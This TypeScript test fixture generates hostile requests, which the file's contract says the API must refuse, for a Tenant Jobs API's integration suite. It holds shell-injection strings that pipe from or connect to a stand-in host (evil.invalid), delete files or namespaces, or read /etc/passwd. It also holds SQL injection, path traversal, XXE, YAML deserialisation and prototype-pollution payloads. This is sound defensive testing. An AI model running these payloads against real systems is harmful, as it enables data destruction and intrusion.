/*
 * Hostile requests against every route of the Tenant Jobs API, for the
 * hostile-input integration suite. Generation is deterministic: the
 * arbitrary parts (unicode strings, which auth variant goes to which route,
 * which field carries which shell payload) are drawn with fast-check from a
 * fixed seed, so a failing request is the same on every run.
 *
 * Every request here must be refused: none may create a run, a Job or a
 * namespace, whoever sends it.
 */
import type { BuiltInJobTypeId } from '@tenant-jobs/plugin-tenant-jobs-common';
import fc from 'fast-check';
import type { TestOrg, UserKey } from './harness';
import { validBody } from './harness';

/** The seed of every draw; change it to explore, keep it to reproduce. */
export const HOSTILE_SEED = 0x7e4a47;

export const HOSTILE_CATEGORIES = [
  'hostile-id',
  'unicode-and-null-bytes',
  'oversize-body',
  'prototype-pollution',
  'yaml-and-shell',
  'wrong-types',
  'wrong-content-type',
  'malformed-json',
  'unknown-fields',
  'cross-tenant',
  'auth',
  'bad-query',
  'schedules-triggers-configuration',
] as const;

export type HostileCategory = (typeof HOSTILE_CATEGORIES)[number];

export const ROUTES = [
  'GET /job-types',
  'GET /tiers',
  'GET /priorities',
  'GET /tenants',
  'GET /runs',
  'GET /stats',
  'GET /runs/:runId',
  'GET /runs/:runId/events',
  'GET /runs/:runId/logs',
  'POST /runs',
  'POST /runs/:runId/cancel',
  'POST /runs/:runId/retry',
  'GET /trigger-topics',
  'GET /triggers',
  'POST /triggers',
  'GET /triggers/:triggerId',
  'DELETE /triggers/:triggerId',
  'GET /schedules',
  'POST /schedules',
  'GET /schedules/:scheduleId',
  'POST /schedules/:scheduleId/pause',
  'DELETE /schedules/:scheduleId',
  'GET /tenants/:tenantId/configuration',
  'POST /tenants/:tenantId/configuration',
] as const;

export type RouteId = (typeof ROUTES)[number];

/**
 * The audit action a refusal on `route` is recorded under: the mutating
 * routes have their own, every other refusal is `request-refused`.
 */
export function auditActionOf(route: RouteId): string {
  switch (route) {
    case 'POST /runs':
      return 'run-submit';
    case 'POST /runs/:runId/cancel':
      return 'run-cancel';
    case 'POST /runs/:runId/retry':
      return 'run-retry';
    case 'POST /triggers':
      return 'trigger-create';
    case 'DELETE /triggers/:triggerId':
      return 'trigger-delete';
    case 'POST /schedules':
      return 'schedule-create';
    case 'POST /schedules/:scheduleId/pause':
      return 'schedule-pause';
    case 'DELETE /schedules/:scheduleId':
      return 'schedule-delete';
    case 'POST /tenants/:tenantId/configuration':
      return 'configuration-import';
    default:
      return 'request-refused';
  }
}

export type HostileRequest = {
  category: HostileCategory;
  /** What is hostile about it, for failure messages. */
  name: string;
  route: RouteId;
  method: 'GET' | 'POST' | 'DELETE';
  /** Below /api/tenant-jobs, already percent-encoded. */
  path: string;
  /** Whose token to send (default alice), unless `authorization` is set. */
  as?: UserKey;
  /** The raw Authorization header; null sends none. */
  authorization?: string | null;
  headers?: Record<string, string>;
  /** The raw body and the Content-Type it is sent with. */
  body?: { contentType: string; payload: string | Buffer };
  /** The exact status the contract prescribes, where it does. */
  expectedStatus?: number;
  /** The exact error name the contract prescribes, where it does. */
  expectedErrorName?: string;
  /**
   * Sent after all others, one at a time: if wrongly accepted, it would
   * change the seeded run (cancel it), which other requests rely on.
   */
  last?: boolean;
};

export type HostileContext = {
  org: TestOrg;
  /** A real run of tenant a (alice's), the target of id-based routes. */
  seededRunId: string;
  /** A paused schedule of tenant a (alice's). */
  seededScheduleId: string;
  /** A trigger rule of tenant a (alice's). */
  seededTriggerId: string;
  /** The job type of the seeded run, schedule and rule. */
  jobType: string;
};

/** The topic the seeded rule listens to (allowed, shared). */
export const HOSTILE_TOPIC = 'tenant-jobs-test.push';

/**
 * Percent-encodes every UTF-8 byte but the unreserved characters. Unlike
 * encodeURIComponent it takes lone surrogates too (as U+FFFD).
 */
function enc(value: string): string {
  return [...Buffer.from(value, 'utf8')]
    .map(byte => {
      const char = String.fromCharCode(byte);
      return /[A-Za-z0-9\-_.~]/.test(char)
        ? char
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    })
    .join('');
}

/** Draws `count` values of `arbitrary`; the same ones for the same `salt`. */
function draw<T>(arbitrary: fc.Arbitrary<T>, count: number, salt: number): T[] {
  return fc.sample(arbitrary, { seed: HOSTILE_SEED + salt, numRuns: count });
}

function json(value: unknown): HostileRequest['body'] {
  return { contentType: 'application/json', payload: JSON.stringify(value) };
}

function raw(
  payload: string | Buffer,
  contentType = 'application/json',
): HostileRequest['body'] {
  return { contentType, payload };
}

/** A JSON object text with `members` (raw JSON text) first, then `rest`'s. */
function withRawMembers(members: string, rest: Record<string, unknown>) {
  const tail = JSON.stringify(rest).slice(1);
  return `{${members}${tail === '}' ? '}' : `,${tail}`}`;
}

/** Characters no id, name or pattern of the API accepts. */
const FOREIGN_CHARACTERS = [
  '\u0000',
  '\u0007',
  '\u001b',
  '\u202e', // right-to-left override
  '\u200b', // zero-width space
  '\ufeff', // byte order mark
  '\u2010', // a hyphen that is not '-'
  'é',
  'ß',
  'ı', // dotless i, upper-cases to 'I'
  'Ａ', // full-width A
  '🦄',
  '𝕒',
];

/**
 * Unicode strings that always hold at least one character outside ASCII
 * letters, digits and punctuation, so no schema can take them as valid.
 */
function foreignStrings(
  count: number,
  salt: number,
  unit: 'binary' | 'grapheme' = 'binary',
): string[] {
  return draw(
    fc
      .tuple(
        fc.string({ unit, maxLength: 24 }),
        fc.constantFrom(...FOREIGN_CHARACTERS),
        fc.nat(),
      )
      .map(([text, foreign, at]) => {
        const i = text.length === 0 ? 0 : at % text.length;
        return `${text.slice(0, i)}${foreign}${text.slice(i)}`;
      }),
    count,
    salt,
  );
}

/** Shell, template and YAML payloads; each has a character no pattern allows. */
export const SHELL_AND_YAML_PAYLOADS = [
  '$(rm -rf /)',
  '`rm -rf /`',
  'events-db; curl evil.invalid | sh',
  'events-db && reboot',
  'events-db | nc evil.invalid 4444',
  '${IFS}cat${IFS}/etc/passwd',
  "'; kubectl delete namespace --all; '",
  '---\nkind: Pod\nmetadata:\n  name: evil\nspec:\n  hostPID: true',
  'a: b\n- c',
  'events-db\n- --privileged',
  '{{ .Values.secret }}',
  '> /dev/sda',
  '!!python/object/apply:os.system ["id"]',
];

/** The request of every route, for alice and her own seeded run. */
function routeRequest(
  route: RouteId,
  ctx: HostileContext,
): Pick<HostileRequest, 'route' | 'method' | 'path' | 'body'> {
  const id = enc(ctx.seededRunId);
  const [method, template] = route.split(' ') as [
    HostileRequest['method'],
    string,
  ];
  const path = template
    .replace(':id', id)
    .replace(':scheduleId', enc(ctx.seededScheduleId))
    .replace(':triggerId', enc(ctx.seededTriggerId))
    .replace(':tenantId', enc(ctx.org.tenants.a));
  const tenantId = ctx.org.tenants.a;
  const bodies: Partial<Record<RouteId, HostileRequest['body']>> = {
    'POST /runs': json(validBody(tenantId, 'data-etl')),
    'POST /triggers': json({
      tenantId,
      topic: HOSTILE_TOPIC,
      jobType: ctx.jobType,
    }),
    'POST /schedules': json({
      tenantId,
      jobType: ctx.jobType,
      cron: '0 4 * * *',
      paused: true,
    }),
    'POST /tenants/:tenantId/configuration': raw(
      'apiVersion: tenant-jobs.io/v1\nkind: TenantJobsConfiguration\nschedules: []\n',
      'application/yaml',
    ),
  };
  const body = bodies[route];
  return { route, method, path, ...(body ? { body } : {}) };
}

function idRoutes(
  id: string,
): Array<Pick<HostileRequest, 'route' | 'method' | 'path'>> {
  return [
    { route: 'GET /runs/:runId', method: 'GET', path: `/runs/${id}` },
    {
      route: 'GET /runs/:runId/events',
      method: 'GET',
      path: `/runs/${id}/events`,
    },
    { route: 'GET /runs/:runId/logs', method: 'GET', path: `/runs/${id}/logs` },
    {
      route: 'POST /runs/:runId/cancel',
      method: 'POST',
      path: `/runs/${id}/cancel`,
    },
    {
      route: 'POST /runs/:runId/retry',
      method: 'POST',
      path: `/runs/${id}/retry`,
    },
  ];
}

function hostileIds(ctx: HostileContext): HostileRequest[] {
  const seeded = ctx.seededRunId;
  const ids: Array<[name: string, encoded: string]> = [
    ['null byte', '%00'],
    ['the seeded id and a null byte', `${enc(seeded)}%00`],
    [
      'the seeded id, a null byte and more',
      `${enc(seeded)}%00${enc("' OR 1=1")}`,
    ],
    ['path traversal', '..%2F..%2Fetc%2Fpasswd'],
    ['path traversal to another route', '..%2F..%2Fjobs%3Flimit%3D200'],
    ['the seeded id and a traversal', `${enc(seeded)}%2F..%2F..`],
    ['an encoded slash', '%2F'],
    ['SQL: always true', enc("' OR '1'='1")],
    ['SQL: stacked statement', enc("x'; DROP TABLE tenant_jobs_runs; --")],
    ['SQL: union', enc(`${seeded}' UNION SELECT * FROM tenant_jobs_audit --`)],
    ['SQL: like wildcard', enc('%')],
    ['SQL: like wildcard after a prefix', enc(`${seeded.slice(0, 8)}%`)],
    ['malformed percent-encoding', '%E0%A4%A'],
    ['a lone percent sign', '%'],
    ['very long (8000 characters)', 'a'.repeat(8000)],
    ['very long in multi-byte characters', enc('é'.repeat(1000))],
    ['the seeded id upper-cased', enc(seeded.toUpperCase())],
    ['the seeded id with a leading space', enc(` ${seeded}`)],
    ...foreignStrings(6, 1, 'grapheme').map((id): [string, string] => [
      `unicode ${JSON.stringify(id)}`,
      enc(id),
    ]),
  ];
  return ids.flatMap(([name, id]) =>
    idRoutes(id).map(
      (route): HostileRequest => ({
        category: 'hostile-id',
        name: `id: ${name}`,
        ...route,
        expectedStatus: name.includes('percent') ? 400 : 404,
      }),
    ),
  );
}

function unicodeAndNullBytes(ctx: HostileContext): HostileRequest[] {
  const { tenants, components } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const params = base.parameters as Record<string, unknown>;
  const submit = (name: string, body: unknown): HostileRequest => ({
    category: 'unicode-and-null-bytes',
    name,
    route: 'POST /runs',
    method: 'POST',
    path: '/runs',
    body: json(body),
    expectedStatus: 400,
  });
  const fields = [
    'tenantId',
    'jobType',
    'tier',
    'priority',
    'idempotencyKey',
    'entityRef',
  ] as const;
  const strings = foreignStrings(24, 2);
  const requests: HostileRequest[] = [
    submit('tenantId cut by a null byte', {
      ...base,
      tenantId: `${tenants.a}\u0000`,
    }),
    submit("tenantId, a null byte and another tenant's id", {
      ...base,
      tenantId: `${tenants.a}\u0000${tenants.b}`,
    }),
    submit('jobType cut by a null byte', {
      ...base,
      jobType: 'data-etl\u0000',
    }),
    submit('jobType with a look-alike hyphen', {
      ...base,
      jobType: 'data\u2010etl',
    }),
    submit('tenantId in full-width letters', {
      ...base,
      tenantId: tenants.a.replace(/[a-z]/g, c =>
        String.fromCodePoint(c.codePointAt(0)! - 0x61 + 0xff41),
      ),
    }),
    submit('parameter cut by a null byte', {
      ...base,
      parameters: { ...params, source: 'events-db\u0000; rm -rf /' },
    }),
    submit('entityRef cut by a null byte', {
      ...base,
      entityRef: `${components.a.owned}\u0000`,
    }),
    submit('idempotencyKey with a right-to-left override', {
      ...base,
      idempotencyKey: 'key-\u202e1337',
    }),
    ...fields.flatMap((field, i) =>
      strings.slice(i * 2, i * 2 + 2).map(value =>
        submit(`${field} ${JSON.stringify(value)}`, {
          ...base,
          [field]: value,
        }),
      ),
    ),
    ...strings.slice(12, 16).map(value =>
      submit(`parameter value ${JSON.stringify(value)}`, {
        ...base,
        parameters: { ...params, destination: value },
      }),
    ),
    ...strings.slice(16, 18).map(value =>
      submit(`parameter name ${JSON.stringify(value)}`, {
        ...base,
        parameters: { ...params, [value]: 'x' },
      }),
    ),
  ];
  const query = (
    route: RouteId,
    path: string,
    name: string,
  ): HostileRequest => ({
    category: 'unicode-and-null-bytes',
    name,
    route,
    method: 'GET',
    path,
    expectedStatus: 400,
  });
  const logs = `/runs/${enc(ctx.seededRunId)}/logs`;
  const graphemes = foreignStrings(4, 3, 'grapheme');
  requests.push(
    query(
      'GET /runs',
      `/runs?tenantId=${enc(tenants.a)}%00`,
      'tenant cut by a null byte',
    ),
    query(
      'GET /runs',
      `/runs?entityRef=${enc(components.a.owned)}%00`,
      'entityRef cut by a null byte',
    ),
    query(
      'GET /runs',
      `/runs?submittedBy=${enc(ctx.org.users.alice)}%00`,
      'submittedBy cut by a null byte',
    ),
    query(
      'GET /runs',
      `/runs?from=${enc('2026-01-01T00:00:00Z\u0000')}`,
      'from cut by a null byte',
    ),
    query(
      'GET /runs',
      `/runs?tenantId=${enc(graphemes[0])}`,
      `tenant ${JSON.stringify(graphemes[0])}`,
    ),
    query(
      'GET /stats',
      `/stats?type=${enc(graphemes[1])}`,
      `type ${JSON.stringify(graphemes[1])}`,
    ),
    query(
      'GET /stats',
      `/stats?submittedBy=${enc(`user:default/${graphemes[2]}`)}`,
      `submittedBy user:default/${JSON.stringify(graphemes[2])}`,
    ),
    query('GET /runs/:runId/logs', `${logs}?pod=%00`, 'pod a null byte'),
    query(
      'GET /runs/:runId/logs',
      `${logs}?pod=${enc(graphemes[3])}`,
      `pod ${JSON.stringify(graphemes[3])}`,
    ),
  );
  return requests;
}

function oversizeBodies(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const params = base.parameters as Record<string, unknown>;
  const id = enc(ctx.seededRunId);
  const over = (
    name: string,
    route: RouteId,
    path: string,
    payload: string,
  ): HostileRequest => ({
    category: 'oversize-body',
    name,
    route,
    method: 'POST',
    path,
    body: raw(payload),
    expectedStatus: 413,
  });
  const exactlyOver = (() => {
    const text = JSON.stringify({
      ...base,
      parameters: { ...params, pad: '' },
    });
    const pad = 64 * 1024 + 1 - Buffer.byteLength(text);
    return JSON.stringify({
      ...base,
      parameters: { ...params, pad: 'x'.repeat(pad) },
    });
  })();
  const nested = 20_000;
  return [
    over(
      'a 70 kB parameter',
      'POST /runs',
      '/runs',
      JSON.stringify({
        ...base,
        parameters: { ...params, pad: 'x'.repeat(70 * 1024) },
      }),
    ),
    over('one byte over 64 kB', 'POST /runs', '/runs', exactlyOver),
    over(
      'a 70 kB tenantId',
      'POST /runs',
      '/runs',
      JSON.stringify({ ...base, tenantId: 'a'.repeat(70 * 1024) }),
    ),
    over(
      '90 kB of four-byte characters (45 k UTF-16 units)',
      'POST /runs',
      '/runs',
      JSON.stringify({ ...base, idempotencyKey: '🦄'.repeat(22_500) }),
    ),
    over(
      'a 1 MB body',
      'POST /runs',
      '/runs',
      JSON.stringify({ ...base, padding: 'x'.repeat(1024 * 1024) }),
    ),
    over(
      'a 70 kB cancel body',
      'POST /runs/:runId/cancel',
      `/runs/${id}/cancel`,
      JSON.stringify({ reason: 'x'.repeat(70 * 1024) }),
    ),
    over(
      'a 70 kB retry body',
      'POST /runs/:runId/retry',
      `/runs/${id}/retry`,
      JSON.stringify({ reason: 'x'.repeat(70 * 1024) }),
    ),
    {
      category: 'oversize-body',
      name: `parameters nested ${nested} arrays deep (under 64 kB)`,
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      body: raw(
        withRawMembers(
          `"parameters":{"source":${'['.repeat(nested)}${']'.repeat(nested)}}`,
          { tenantId: tenants.a, jobType: 'data-etl' },
        ),
      ),
      expectedStatus: 400,
    },
    {
      category: 'oversize-body',
      name: '3000 parameters (under 64 kB)',
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      body: json({
        ...base,
        parameters: Object.fromEntries(
          Array.from({ length: 3000 }, (_, i) => [`p${i}`, i]),
        ),
      }),
      expectedStatus: 400,
    },
  ];
}

function prototypePollution(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const params = base.parameters as Record<string, unknown>;
  const id = enc(ctx.seededRunId);
  const pollute = '{"polluted":"yes"}';
  const submit = (
    name: string,
    payload: string,
    expectedStatus = 400,
  ): HostileRequest => ({
    category: 'prototype-pollution',
    name,
    route: 'POST /runs',
    method: 'POST',
    path: '/runs',
    body: raw(payload),
    expectedStatus,
  });
  const requests: HostileRequest[] = [
    submit(
      '__proto__ in the body',
      withRawMembers(`"__proto__":${pollute}`, base),
    ),
    submit(
      'constructor.prototype in the body',
      withRawMembers(`"constructor":{"prototype":${pollute}}`, base),
    ),
    submit(
      '__proto__ in the parameters',
      withRawMembers(
        `"parameters":${withRawMembers(`"__proto__":${pollute}`, params)}`,
        { tenantId: tenants.a, jobType: 'data-etl' },
      ),
    ),
    submit(
      'constructor.prototype in the parameters',
      withRawMembers(
        `"parameters":${withRawMembers(
          `"constructor":{"prototype":${pollute}}`,
          params,
        )}`,
        { tenantId: tenants.a, jobType: 'data-etl' },
      ),
    ),
    submit(
      'a parameter named hasOwnProperty',
      JSON.stringify({
        ...base,
        parameters: { ...params, hasOwnProperty: 'x' },
      }),
    ),
    submit(
      'a parameter named toString',
      JSON.stringify({ ...base, parameters: { ...params, toString: 1 } }),
    ),
    submit(
      'a parameter named valueOf',
      JSON.stringify({ ...base, parameters: { ...params, valueOf: {} } }),
    ),
    submit(
      'jobType constructor',
      JSON.stringify({ ...base, jobType: 'constructor' }),
    ),
    submit(
      'jobType prototype',
      JSON.stringify({ ...base, jobType: 'prototype' }),
    ),
    submit(
      'jobType __proto__',
      JSON.stringify({ ...base, jobType: '__proto__' }),
    ),
    submit(
      'tenantId constructor',
      JSON.stringify({ ...base, tenantId: 'constructor' }),
      403,
    ),
    submit(
      'tenantId __proto__',
      JSON.stringify({ ...base, tenantId: '__proto__' }),
    ),
    submit('tier __proto__', JSON.stringify({ ...base, tier: '__proto__' })),
    submit('tier toString', JSON.stringify({ ...base, tier: 'toString' })),
    submit(
      'priority constructor',
      JSON.stringify({ ...base, priority: 'constructor' }),
    ),
    {
      category: 'prototype-pollution',
      name: '__proto__ in a cancel body, by a user of another tenant',
      route: 'POST /runs/:runId/cancel',
      method: 'POST',
      path: `/runs/${id}/cancel`,
      as: 'bob',
      body: raw(`{"__proto__":${pollute}}`),
      expectedStatus: 404,
    },
    {
      category: 'prototype-pollution',
      name: 'constructor.prototype in a retry body, by a user of another tenant',
      route: 'POST /runs/:runId/retry',
      method: 'POST',
      path: `/runs/${id}/retry`,
      as: 'carol',
      body: raw(`{"constructor":{"prototype":${pollute}}}`),
      expectedStatus: 404,
    },
  ];
  for (const name of ['__proto__', 'constructor', 'hasOwnProperty']) {
    for (const route of idRoutes(name)) {
      requests.push({
        category: 'prototype-pollution',
        name: `id ${name}`,
        ...route,
        expectedStatus: 404,
      });
    }
  }
  // qs drops a top-level __proto__ key before any route sees it, so on its
  // own it cannot be refused; these pair it with what must be refused and
  // check that the attempt changes nothing about the refusal.
  const logs = `/runs/${id}/logs`;
  const query: Array<[RouteId, string, Partial<HostileRequest>]> = [
    ['GET /runs', '/runs?constructor[prototype][polluted]=yes', {}],
    ['GET /runs', '/runs?tenant[__proto__][polluted]=yes', {}],
    ['GET /runs', '/runs?status[constructor][prototype]=yes', {}],
    ['GET /runs', '/runs?__proto__[polluted]=yes&limit=0', {}],
    ['GET /stats', '/stats?constructor[prototype][polluted]=yes', {}],
    ['GET /stats', '/stats?__proto__[polluted]=yes&from=yesterday', {}],
    [
      'GET /runs/:runId/logs',
      `${logs}?constructor[prototype][polluted]=yes`,
      {},
    ],
    [
      'GET /runs/:runId/logs',
      `${logs}?__proto__[polluted]=yes&tailLines=-1`,
      {},
    ],
    [
      'GET /runs/:runId',
      `/runs/${id}?__proto__[polluted]=yes`,
      { as: 'bob', expectedStatus: 404 },
    ],
    [
      'GET /runs/:runId/events',
      `/runs/${id}/events?__proto__[polluted]=yes`,
      { as: 'mallory', expectedStatus: 404 },
    ],
    [
      'GET /job-types',
      '/job-types?__proto__[polluted]=yes',
      { authorization: null, expectedStatus: 401 },
    ],
    [
      'GET /tenants',
      '/tenants?constructor[prototype][polluted]=yes',
      { authorization: 'Bearer x', expectedStatus: 401 },
    ],
  ];
  for (const [route, path, extra] of query) {
    requests.push({
      category: 'prototype-pollution',
      name: `query ${decodeURIComponent(path.slice(path.indexOf('?')))}`,
      route,
      method: 'GET',
      path,
      expectedStatus: 400,
      ...extra,
    });
  }
  return requests;
}

function yamlAndShell(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  // Where a payload may land: a string parameter of each built-in type
  // (pattern or enum), or a top-level string field.
  const targets: Array<{ name: string; body: (value: string) => unknown }> = [
    ...(
      [
        ['data-etl', 'source'],
        ['data-etl', 'destination'],
        ['data-etl', 'mode'],
        ['ml-training', 'model'],
        ['ml-training', 'dataset'],
        ['security-scan', 'target'],
        ['security-scan', 'scanType'],
        ['billing-report', 'period'],
        ['billing-report', 'format'],
        ['tenant-backup', 'target'],
      ] as const
    ).map(([type, parameter]) => ({
      name: `${type} parameter ${parameter}`,
      body: (value: string) => {
        const body = validBody(tenants.a, type);
        return {
          ...body,
          parameters: {
            ...(body.parameters as Record<string, unknown>),
            [parameter]: value,
          },
        };
      },
    })),
    ...(
      ['tenantId', 'jobType', 'idempotencyKey', 'entityRef', 'tier'] as const
    ).map(field => ({
      name: field,
      body: (value: string) => ({
        ...validBody(tenants.a, 'data-etl'),
        [field]: value,
      }),
    })),
  ];
  const picks = draw(
    fc.uniqueArray(fc.nat({ max: targets.length - 1 }), {
      minLength: 3,
      maxLength: 3,
    }),
    SHELL_AND_YAML_PAYLOADS.length,
    4,
  );
  const requests: HostileRequest[] = SHELL_AND_YAML_PAYLOADS.flatMap(
    (payload, i) =>
      picks[i].map(
        (t): HostileRequest => ({
          category: 'yaml-and-shell',
          name: `${targets[t].name} ${JSON.stringify(payload)}`,
          route: 'POST /runs',
          method: 'POST',
          path: '/runs',
          body: json(targets[t].body(payload)),
          expectedStatus: 400,
        }),
      ),
  );
  const id = enc(ctx.seededRunId);
  const query: Array<[RouteId, string]> = [
    ['GET /runs', `/runs?submittedBy=${enc('$(id)')}`],
    ['GET /runs', `/runs?tenantId=${enc('a;curl evil.invalid')}`],
    ['GET /runs', `/runs?cursor=${enc('`id`')}`],
    ['GET /runs', `/runs?entityRef=${enc('component:default/x\nkind: Pod')}`],
    ['GET /stats', `/stats?type=${enc('data-etl;rm -rf /')}`],
    ['GET /stats', `/stats?to=${enc('$(date)')}`],
    ['GET /runs/:runId/logs', `/runs/${id}/logs?pod=${enc('$(id)')}`],
    ['GET /runs/:runId/logs', `/runs/${id}/logs?tailLines=${enc('10; id')}`],
  ];
  for (const [route, path] of query) {
    requests.push({
      category: 'yaml-and-shell',
      name: `query ${decodeURIComponent(path.slice(path.indexOf('?')))}`,
      route,
      method: 'GET',
      path,
      expectedStatus: 400,
    });
  }
  for (const route of idRoutes(enc('$(rm -rf /)'))) {
    requests.push({
      category: 'yaml-and-shell',
      name: 'id $(rm -rf /)',
      ...route,
      expectedStatus: 404,
    });
  }
  return requests;
}

function wrongTypes(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const numbers = draw(fc.integer(), 4, 5);
  const wrong: Record<string, unknown[]> = {
    tenantId: [numbers[0], true, null, [tenants.a], { id: tenants.a }],
    jobType: [numbers[1], false, null, ['data-etl'], { id: 'data-etl' }],
    tier: [3, true, null, ['large'], { id: 'large' }],
    priority: [1, true, null, ['high'], { id: 'high' }],
    parameters: ['source=events-db', numbers[2], true, null, [base.parameters]],
    entityRef: [
      numbers[3],
      true,
      null,
      [ctx.org.components.a.owned],
      {
        kind: 'component',
        namespace: 'default',
        name: 'x',
      },
    ],
    idempotencyKey: [12345, true, null, ['key'], { key: 'k' }],
    dryRun: ['true', 'false', 1, 0, null, [true], { value: true }],
  };
  const submit = (name: string, payload: string): HostileRequest => ({
    category: 'wrong-types',
    name,
    route: 'POST /runs',
    method: 'POST',
    path: '/runs',
    body: raw(payload),
    expectedStatus: 400,
  });
  const requests = Object.entries(wrong).flatMap(([field, values]) =>
    values.map(value =>
      submit(
        `${field} ${JSON.stringify(value)}`,
        JSON.stringify({ ...base, [field]: value }),
      ),
    ),
  );
  const parameterValues: Array<[string, BuiltInJobTypeId, string, unknown]> = [
    ['ml-training epochs as a string', 'ml-training', 'epochs', '10'],
    ['ml-training epochs as a fraction', 'ml-training', 'epochs', 2.5],
    [
      'ml-training learningRate as a string',
      'ml-training',
      'learningRate',
      '0.1',
    ],
    ['ml-training batchSize as an array', 'ml-training', 'batchSize', [32]],
    [
      'tenant-backup retentionDays as a boolean',
      'tenant-backup',
      'retentionDays',
      true,
    ],
    [
      'tenant-backup retentionDays as null',
      'tenant-backup',
      'retentionDays',
      null,
    ],
    ['billing-report period as a number', 'billing-report', 'period', 202506],
    ['data-etl source as an array', 'data-etl', 'source', ['events-db']],
    [
      'data-etl source as an object',
      'data-etl',
      'source',
      { name: 'events-db' },
    ],
    ['security-scan target as a boolean', 'security-scan', 'target', false],
  ];
  for (const [name, type, parameter, value] of parameterValues) {
    const body = validBody(tenants.a, type);
    requests.push(
      submit(
        name,
        JSON.stringify({
          ...body,
          parameters: {
            ...(body.parameters as Record<string, unknown>),
            [parameter]: value,
          },
        }),
      ),
    );
  }
  requests.push(
    submit(
      'ml-training epochs 1e400 (Infinity)',
      withRawMembers(
        `"parameters":{"model":"m","dataset":"d","epochs":1e400}`,
        { tenantId: tenants.a, jobType: 'ml-training' },
      ),
    ),
    submit('body an array', JSON.stringify([base])),
    submit('body an empty array', '[]'),
    submit('body a string', JSON.stringify(JSON.stringify(base))),
    submit('body a number', '42'),
    submit('body null', 'null'),
    submit('body true', 'true'),
  );
  return requests;
}

function wrongContentTypes(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const text = JSON.stringify(base);
  const boundary = 'hostileBoundary7e4a47';
  const multipart = [
    `--${boundary}`,
    'Content-Disposition: form-data; name="tenantId"',
    '',
    tenants.a,
    `--${boundary}`,
    'Content-Disposition: form-data; name="jobType"',
    '',
    'data-etl',
    `--${boundary}`,
    'Content-Disposition: form-data; name="file"; filename="job.json"',
    'Content-Type: application/json',
    '',
    text,
    `--${boundary}--`,
    '',
  ].join('\r\n');
  const form = new URLSearchParams({
    tenantId: tenants.a,
    jobType: 'data-etl',
    'parameters[source]': 'events-db',
    'parameters[destination]': 'warehouse',
  }).toString();
  const xml = `<?xml version="1.0"?><!DOCTYPE job [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><job><tenantId>${tenants.a}</tenantId><jobType>data-etl</jobType><note>&xxe;</note></job>`;
  const yaml = `tenantId: ${tenants.a}\njobType: data-etl\nparameters:\n  source: events-db\n  destination: warehouse\n`;
  const kinds: Array<[string, string | Buffer]> = [
    ['text/plain', text],
    ['application/x-www-form-urlencoded', form],
    [`multipart/form-data; boundary=${boundary}`, multipart],
    ['application/xml', xml],
    ['text/xml', xml],
    ['application/yaml', yaml],
    ['application/octet-stream', Buffer.from(text)],
    ['application/json-patch+json', text],
    ['application/json; charset=utf-16', Buffer.from(text, 'utf16le')],
  ];
  const requests: HostileRequest[] = kinds.map(([contentType, payload]) => {
    const utf16 = contentType.includes('charset');
    return {
      category: 'wrong-content-type',
      name: `submit as ${contentType.split(';')[0]}${utf16 ? ' (UTF-16)' : ''}`,
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      body: raw(payload, contentType),
      // JSON in another encoding than UTF-8 is still JSON: 400 or 415.
      expectedStatus: utf16 ? undefined : 415,
    };
  });
  // On alice's own run, so only the content type is wrong. Retries go
  // first (the run is still running, so a wrongly accepted retry would be
  // a 409, not a new run); cancels go last, as one wrongly accepted would
  // cancel the seeded run.
  const id = enc(ctx.seededRunId);
  for (const action of ['retry', 'cancel'] as const) {
    for (const [contentType, payload] of kinds.slice(0, 4)) {
      requests.push({
        category: 'wrong-content-type',
        name: `${action} as ${contentType.split(';')[0]}`,
        route: `POST /runs/:runId/${action}`,
        method: 'POST',
        path: `/runs/${id}/${action}`,
        body: raw(
          contentType === 'text/plain' ? 'please' : payload,
          contentType,
        ),
        expectedStatus: 415,
        last: action === 'cancel',
      });
    }
  }
  return requests;
}

function malformedJson(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const a = tenants.a;
  const texts: Array<[string, string | Buffer]> = [
    ['truncated', `{"tenantId":"${a}","jobType":`],
    ['single quotes', `{'tenantId':'${a}','jobType':'data-etl'}`],
    ['trailing comma', `{"tenantId":"${a}","jobType":"data-etl",}`],
    ['unquoted keys', `{tenantId:"${a}",jobType:"data-etl"}`],
    [
      'NaN',
      `{"tenantId":"${a}","jobType":"data-etl","parameters":{"epochs":NaN}}`,
    ],
    ['a comment', `/* hi */ {"tenantId":"${a}","jobType":"data-etl"}`],
    ['two documents', `{"tenantId":"${a}"}{"jobType":"data-etl"}`],
    ['a leading null byte', `\u0000{"tenantId":"${a}","jobType":"data-etl"}`],
    [
      'an unescaped newline in a string',
      `{"tenantId":"${a}\n","jobType":"data-etl"}`,
    ],
    ['an invalid escape', `{"tenantId":"\\x41","jobType":"data-etl"}`],
    [
      'invalid UTF-8',
      Buffer.concat([
        Buffer.from(`{"tenantId":"`),
        Buffer.from([0xc3, 0x28, 0xff, 0xfe]),
        Buffer.from(`","jobType":"data-etl"}`),
      ]),
    ],
    ['only whitespace and a brace', ' \n\t{'],
  ];
  const requests: HostileRequest[] = texts.map(([name, payload]) => ({
    category: 'malformed-json',
    name,
    route: 'POST /runs',
    method: 'POST',
    path: '/runs',
    body: raw(payload),
    expectedStatus: 400,
    expectedErrorName: name === 'invalid UTF-8' ? undefined : 'InputError',
  }));
  requests.push(
    {
      category: 'malformed-json',
      name: 'gzip encoding that is not gzip',
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      headers: { 'Content-Encoding': 'gzip' },
      body: raw(`{"tenantId":"${a}","jobType":"data-etl"}`),
    },
    {
      category: 'malformed-json',
      name: 'an unknown content encoding',
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      headers: { 'Content-Encoding': 'x-hostile' },
      body: raw(`{"tenantId":"${a}","jobType":"data-etl"}`),
      expectedStatus: 415,
    },
  );
